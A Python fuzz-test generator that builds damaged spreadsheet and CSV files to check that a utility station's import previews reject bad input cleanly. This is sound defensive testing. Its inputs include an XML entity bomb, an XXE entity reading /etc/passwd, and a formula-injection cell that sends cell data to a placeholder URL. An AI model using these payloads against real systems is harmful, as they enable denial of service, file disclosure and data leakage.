"""A corpus of damaged import files (issue 15): each must end in a preview or in one Rejected reason.

`generate(n, seed)` yields `FuzzFile(kind, name, data)`, deterministic for a seed: truncated and bit-flipped
workbooks and CSVs, zero-byte files, an old .xls renamed .xlsx, a workbook without its workbook part or with a
shared-string index past the table, an entity bomb and an XXE entity, a cell over the CSV field limit, and
cells a hostile world types (1e309, NaN, 1e26 kVA, "not-a-date", 5,000 digits, NUL, lone surrogates).

`python -m tests.fuzz_files [N]` runs N files (default: the whole corpus) through the previews, as `make fuzz`
does; tests/station/test_fuzz_imports.py runs a few hundred in the suite.
"""

from __future__ import annotations

import io
import random
import sys
import zipfile
from collections.abc import Iterator
from dataclasses import dataclass

#: The corpus `make fuzz` runs; the suite takes a deterministic slice of it.
FULL_CORPUS = 1500

CUSTOMERS = [
    ["户号", "户名", "用电类别", "电压等级", "台区编号", "台区名称", "合同容量", "立户日期"],
    ["3300000001", "张三", "居民生活", "220V", "T01", "东街台区", "8", "2020-01-05"],
    ["3300000002", "李四", "居民生活", "220V", "T01", "东街台区", "8", "2021-03-01"],
    ["3300000003", "某厂", "一般工商业", "380V", "T02", "西街台区", "315", "2019-07-01"],
]
ASSETS = [
    ["资产编号", "出厂编号", "类别", "型号", "生产厂家", "准确度等级", "常数", "变比", "出厂日期", "检定日期", "检定结论",
     "安装户号"],
    ["3300001000000000000001", "F001", "电能表", "DDZY71", "某表厂", "2", "1200", "", "2023-05-01", "2023-06-01",
     "合格", "3300000001"],
    ["3300002000000000000019", "C1", "电流互感器", "LZZBJ9", "某厂", "0.2S", "", "100/5", "2023-01-01", "2023-02-01",
     "合格", "3300000003"],
]
READINGS = [
    ["户号", "年月", "电量"],
    ["3300000001", "2025-01", "120.5"],
    ["3300000002", "2025-01", "98"],
    ["3300000003", "2025-02", "15000"],
]
SUPPLY = [
    ["台区编号", "年月", "供电量"],
    ["T01", "2025-01", "3000"],
    ["T02", "2025-01", "25000"],
]
BASES: dict[str, list[list[str]]] = {"customers": CUSTOMERS, "assets": ASSETS, "readings": READINGS, "supply": SUPPLY}

#: What a hostile world types into a cell.
HOSTILE_CELLS = (
    "1e309", "-1e309", "NaN", "nan", "inf", "-Infinity", "1e26", "1e20", "-0", "0x1F", "１２３４５６７８９０",
    "not-a-date", "2025-13", "2025-02-30", "9999-12-31", "0001-01-01", "99999", "1" * 5000, "9" * 40,
    "=HYPERLINK(\"http://x\"&A2)", "\t=1+2", "@SUM(A1)", "\x00", "\ufeff", "\u202e", "户号", "", " ", "'",
    "1,2,3", "1.2.3", "1e-400", "12E+5", "∞", "--5", "5-", "1_000", "123456789012", "9" * 18, "9" * 16 + ".5",
    "99999999999/1", "1e9/1", "100/0", "0/5", "1e26/1",
)


@dataclass(frozen=True, slots=True)
class FuzzFile:
    kind: str
    name: str  # the file name, whose suffix says how the program reads it
    data: bytes
    how: str  # what was done to it


def csv_bytes(rows: list[list[str]], *, encoding: str = "utf-8") -> bytes:
    out = io.StringIO()
    for row in rows:
        out.write(",".join('"' + c.replace('"', '""') + '"' if ("," in c or '"' in c or "\n" in c) else c
                           for c in row))
        out.write("\n")
    return out.getvalue().encode(encoding, errors="surrogatepass")


def xlsx_bytes(rows: list[list[str]]) -> bytes:
    from openpyxl import Workbook

    wb = Workbook()
    ws = wb.active
    for row in rows:
        ws.append(row)  # type: ignore[union-attr]
    out = io.BytesIO()
    wb.save(out)
    return out.getvalue()


def _rezip(data: bytes, change: dict[str, bytes | None]) -> bytes:
    """The workbook with some parts replaced (bytes) or left out (None)."""
    src = zipfile.ZipFile(io.BytesIO(data))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            if info.filename in change:
                if change[info.filename] is not None:
                    dst.writestr(info.filename, change[info.filename])  # type: ignore[arg-type]
            else:
                dst.writestr(info, src.read(info.filename))
        for name, part in change.items():
            if name not in src.namelist() and part is not None:
                dst.writestr(name, part)
    return out.getvalue()


_SHARED_HEAD = b'<?xml version="1.0" encoding="UTF-8"?>\n'
_BOMB = _SHARED_HEAD + (
    b'<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">'
    b'<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">'
    b'<!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">]>'
    b'<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" count="1" uniqueCount="1">'
    b"<si><t>&lol4;</t></si></sst>"
)
_XXE = _SHARED_HEAD + (
    b'<!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
    b'<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" count="1" uniqueCount="1">'
    b"<si><t>&xxe;</t></si></sst>"
)
#: The first bytes of an OLE2 compound file: an old .xls (or .doc) saved under a new name.
OLE_HEADER = bytes.fromhex("d0cf11e0a1b11ae1") + bytes(504)


def _structural(kind: str, xlsx: bytes, csv: bytes) -> Iterator[FuzzFile]:
    yield FuzzFile(kind, "empty.xlsx", b"", "zero-byte .xlsx")
    yield FuzzFile(kind, "empty.csv", b"", "zero-byte .csv")
    yield FuzzFile(kind, "renamed.xlsx", OLE_HEADER, "an .xls renamed .xlsx")
    yield FuzzFile(kind, "text.xlsx", csv, "a csv renamed .xlsx")
    yield FuzzFile(kind, "zip.csv", xlsx, "a workbook renamed .csv")
    yield FuzzFile(kind, "noworkbook.xlsx", _rezip(xlsx, {"xl/workbook.xml": None}), "no workbook part")
    yield FuzzFile(kind, "nosheet.xlsx", _rezip(xlsx, {"xl/worksheets/sheet1.xml": None}), "no sheet part")
    yield FuzzFile(kind, "notypes.xlsx", _rezip(xlsx, {"[Content_Types].xml": None}), "no content types")
    sheet = zipfile.ZipFile(io.BytesIO(xlsx)).read("xl/worksheets/sheet1.xml")
    bad_index = sheet.replace(b"<v>0</v>", b"<v>99999</v>", 1)
    yield FuzzFile(kind, "sstindex.xlsx", _rezip(xlsx, {"xl/worksheets/sheet1.xml": bad_index}),
                   "a shared-string index past the table")
    yield FuzzFile(kind, "sstbroken.xlsx", _rezip(xlsx, {"xl/sharedStrings.xml": b"<sst><si><t>"}),
                   "unterminated shared strings")
    yield FuzzFile(kind, "bomb.xlsx", _rezip(xlsx, {"xl/sharedStrings.xml": _BOMB}), "entity bomb")
    yield FuzzFile(kind, "xxe.xlsx", _rezip(xlsx, {"xl/sharedStrings.xml": _XXE}), "XXE entity")
    yield FuzzFile(kind, "sheetgarbage.xlsx", _rezip(xlsx, {"xl/worksheets/sheet1.xml": b"\x00\xff garbage"}),
                   "a sheet that is not XML")
    big = [list(r) for r in BASES[kind]]
    big[1][1] = "x" * 200_000
    yield FuzzFile(kind, "bigfield.csv", csv_bytes(big), "a cell over the csv field limit")
    yield FuzzFile(kind, "nul.csv", csv.replace(b",", b",\x00", 2), "NUL bytes")
    yield FuzzFile(kind, "unclosed.csv", csv.replace(b"\n", b'\n"', 1), "an unclosed quote")
    yield FuzzFile(kind, "gbk.csv", csv_bytes(BASES[kind], encoding="gb18030"), "GB18030")
    yield FuzzFile(kind, "binary.csv", bytes(range(256)) * 8, "binary bytes")


def _mutated(kind: str, xlsx: bytes, csv: bytes, rnd: random.Random) -> FuzzFile:
    choice = rnd.randrange(6)
    if choice == 0:
        cut = rnd.randrange(1, len(xlsx))
        return FuzzFile(kind, "truncated.xlsx", xlsx[:cut], f"workbook cut at byte {cut}")
    if choice == 1:
        data = bytearray(xlsx)
        for _ in range(rnd.randint(1, 8)):
            data[rnd.randrange(len(data))] ^= 1 << rnd.randrange(8)
        return FuzzFile(kind, "flipped.xlsx", bytes(data), "bit flips in a workbook")
    if choice == 2:
        cut = rnd.randrange(1, len(csv))
        return FuzzFile(kind, "truncated.csv", csv[:cut], f"csv cut at byte {cut}")
    if choice == 3:
        data = bytearray(csv)
        for _ in range(rnd.randint(1, 8)):
            data[rnd.randrange(len(data))] = rnd.randrange(256)
        return FuzzFile(kind, "flipped.csv", bytes(data), "random bytes in a csv")
    rows = [list(r) for r in BASES[kind]]
    for _ in range(rnd.randint(1, 4)):
        row = rows[rnd.randrange(1, len(rows))]
        col = rnd.randrange(len(row))
        row[col] = rnd.choice(HOSTILE_CELLS)
    if choice == 4:
        return FuzzFile(kind, "cells.csv", csv_bytes(rows), "hostile cells in a csv")
    return FuzzFile(kind, "cells.xlsx", xlsx_bytes([[c.replace("\x00", "") for c in r] for r in rows]),
                    "hostile cells in a workbook")


def generate(count: int = FULL_CORPUS, seed: int = 15) -> Iterator[FuzzFile]:
    """`count` damaged files: the structural ones for every kind first, then random mutations."""
    rnd = random.Random(seed)
    bases = {k: (xlsx_bytes(rows), csv_bytes(rows)) for k, rows in BASES.items()}
    made = 0
    for kind, (xlsx, csv) in bases.items():
        for f in _structural(kind, xlsx, csv):
            if made == count:
                return
            yield f
            made += 1
    kinds = list(bases)
    while made < count:
        kind = kinds[made % len(kinds)]
        yield _mutated(kind, *bases[kind], rnd)
        made += 1


def check_file(session: object, path: object, kind: str, *, write: bool = False) -> str:
    """Preview one file: 'preview' or 'rejected'; any other exception propagates (a failure of the program).

    With write=True the accepted rows are written too and rolled back (the values reach the database's
    columns: a PostgreSQL "numeric field overflow" would show here).
    """
    from station.domain.problems import Rejected
    from station.imports import apply_import, preview_assets, preview_customers
    from station.imports.readings import apply_monthly, preview_readings
    from station.imports.supply import preview_supply

    fn = {"customers": preview_customers, "assets": preview_assets, "readings": preview_readings,
          "supply": preview_supply}[kind]
    try:
        preview = fn(session, path)  # type: ignore[operator]
        if write:
            writer = apply_import if kind in ("customers", "assets") else apply_monthly
            with session.begin_nested():  # type: ignore[attr-defined]
                writer(session, preview, "fuzz")  # type: ignore[operator]
                session.flush()  # type: ignore[attr-defined]
            session.rollback()  # type: ignore[attr-defined]
    except Rejected as exc:
        assert exc.problems, "a Rejected without a reason"
        for p in exc.problems:
            assert str(p.message).strip(), "an empty reason"
        return "rejected"
    return "preview"


def run(count: int, folder: object, db: str | None = None) -> dict[str, int]:
    """Preview `count` generated files in a fresh station under `folder` (or the emptied database `db`, a
    PostgreSQL URL) and write the ones that preview; returns counts by outcome."""
    import traceback
    from pathlib import Path

    from station.workspace import open_workspace

    folder = Path(str(folder))
    ws = open_workspace(db or folder / "fuzz.db", operator="fuzz")
    counts = {"preview": 0, "rejected": 0, "traceback": 0}
    try:
        seed_station(ws, folder)
        for i, f in enumerate(generate(count)):
            path = folder / f"{i:05d}-{f.name}"
            path.write_bytes(f.data)
            with ws.sessions() as s:
                try:
                    counts[check_file(s, path, f.kind, write=True)] += 1
                except Exception:  # noqa: BLE001 - the point of the run: count and show them
                    counts["traceback"] += 1
                    print(f"{path.name} ({f.kind}, {f.how}):", file=sys.stderr)
                    traceback.print_exc()
            path.unlink()
    finally:
        ws.close()
    return counts


def seed_station(ws: object, folder: object) -> None:
    """The three customers of CUSTOMERS and their two 台区, so readings and supply files have keys."""
    from pathlib import Path

    from station.imports import apply_import, preview_customers

    path = Path(str(folder)) / "seed-customers.csv"
    path.write_bytes(csv_bytes(CUSTOMERS))
    with ws.sessions.begin() as s:  # type: ignore[attr-defined]
        apply_import(s, preview_customers(s, path), ws.operator)  # type: ignore[attr-defined]


if __name__ == "__main__":
    import tempfile
    import time

    n = int(sys.argv[1]) if len(sys.argv) > 1 else FULL_CORPUS
    url = sys.argv[2] if len(sys.argv) > 2 else None  # a PostgreSQL URL (its public schema is emptied)
    if url:
        from tests.conftest import _reset_postgres

        _reset_postgres(url)
    started = time.perf_counter()
    with tempfile.TemporaryDirectory() as tmp:
        result = run(n, tmp, url)
    print(f"{n} damaged files: {result['preview']} previewed, {result['rejected']} rejected with a reason, "
          f"{result['traceback']} tracebacks ({time.perf_counter() - started:.1f} s)")
    sys.exit(1 if result["traceback"] else 0)
